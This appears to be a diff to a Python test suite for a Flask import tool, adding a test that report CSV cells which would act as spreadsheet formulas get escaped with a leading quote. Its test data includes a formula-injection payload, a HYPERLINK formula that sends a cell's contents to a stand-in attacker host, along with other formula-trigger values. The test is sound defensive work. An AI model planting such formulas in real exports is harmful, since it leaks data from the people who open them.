@@ -65,7 +65,7 @@ def run_import(app: Flask, source: Source, tmp_path: Path, *args: str) -> Result
 
 
 def report_rows(tmp_path: Path) -> list[dict[str, str]]:
-    with (tmp_path / "report.csv").open(encoding="utf-8") as file:
+    with (tmp_path / "report.csv").open(newline="", encoding="utf-8") as file:
         return list(csv.DictReader(file))
 
 
@@ -455,3 +455,22 @@ def test_a_password_of_the_72_bytes_bcrypt_read_logs_in_and_keeps_the_hash(
     assert login(app, "alice@example.com", sent).status_code == 200
     assert stored_hash(app, "alice@example.com").startswith("$2a$")
     assert login(app, "alice@example.com", real).status_code == 200
+
+
+def test_no_report_cell_is_a_formula(app: Flask, source_factory: Any, tmp_path: Path) -> None:
+    """Cells from source data that a spreadsheet would take for a formula start with a
+    quote (OWASP's advice); the others are as they were."""
+    source = source_factory("rc2")
+    emails = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
+    for email in emails:
+        source.customer(email)
+    source.customer("plain@example.com", uuid="=1+2")
+    result = run_import(app, source, tmp_path)
+    assert result.exit_code == 0, result.output
+    rows = report_rows(tmp_path)
+    assert sorted(row["email"] for row in rows) == sorted(
+        ["'" + email for email in emails] + ["plain@example.com"]
+    )
+    [bad_uuid] = [row for row in rows if row["email"] == "plain@example.com"]
+    assert bad_uuid["uuid"] == "'=1+2"
+    assert bad_uuid["reason"] == "uuid '=1+2' is not a UUID"
